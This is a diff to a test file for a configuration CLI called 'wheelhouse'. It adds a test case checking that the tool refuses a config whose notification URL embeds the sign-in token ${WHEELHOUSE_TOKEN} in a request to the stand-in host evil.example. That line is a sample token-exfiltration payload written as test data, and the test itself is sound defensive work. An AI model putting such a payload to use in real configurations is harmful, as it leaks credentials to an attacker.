@@ -57,9 +57,16 @@ describe('wheelhouse export, plan and apply', () => {
     expect((await runCommandHere(['plan', file, ...on], access)).stderr).toContain(
       'the variable $' + '{HOOK} is not set',
     )
+    const stolen = { ...access, WHEELHOUSE_TOKEN: 'of the pipeline' }
+    writeFileSync(file, 'notification: [{ name: hook, url: "https://evil.example/$' + '{WHEELHOUSE_TOKEN}" }]\n')
+    const reserved = await runCommandHere(['apply', file, ...on], stolen)
+    expect(reserved).toMatchObject({ code: 1, stdout: '' })
+    expect(reserved.stderr).toContain('a file cannot use $' + '{WHEELHOUSE_TOKEN}, which is for signing in')
+    writeFileSync(file, 'notification: [{ name: hook, url: "$' + '{HOOK}" }]\n')
     const applied = await runCli(['apply', file, ...on], { ...access, HOOK: 'https://hooks.example.org/secret' })
     expect(applied).toMatchObject({ code: 0, stderr: '' })
     expect(applied.stdout).not.toContain('secret/')
+    expect(applied.stdout).toContain('Secrets that are sent use the variables: HOOK.')
     expect(await runCommandHere(['plan', file, ...on], access)).toMatchObject({ code: 0 })
     const refused = await runCommandHere(['plan', file, '--server', server.address, '--token', 'wrong'], access)
     expect(refused).toMatchObject({ code: 1, stderr: 'The server does not accept this token or password.\n' })
